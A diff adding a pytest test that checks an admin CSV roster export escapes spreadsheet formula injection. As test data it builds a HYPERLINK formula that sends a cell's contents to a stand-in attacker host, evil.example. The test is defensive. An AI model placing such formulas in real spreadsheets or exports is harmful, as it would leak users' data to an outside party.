@@ -113,3 +113,23 @@ def test_selections_are_read_only(back_office):
     response = back_office.get("/admin/classes/selection/add/")
 
     assert response.status_code == 403
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_roster_carries_no_live_spreadsheet_formula(back_office, start):
+    formula = f'{start}HYPERLINK("https://evil.example/?x="&A1,"Open")'
+    camp_class = ClassFactory(name=f"{formula} class", status=ClassStatus.APPROVED)
+    student = UserFactory(name=formula, email="sam@camp.test")
+    PaymentFactory(
+        camp_class=camp_class,
+        student=student,
+        transaction_id=f"{start}pi_1",
+        status=PaymentStatus.ENROLLED,
+    )
+
+    response = back_office.post(
+        CHANGELIST, {"action": "export_roster", "_selected_action": [camp_class.pk]}
+    )
+
+    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    assert rows[1][:4] == [f"'{formula} class", f"'{formula}", "sam@camp.test", f"'{start}pi_1"]
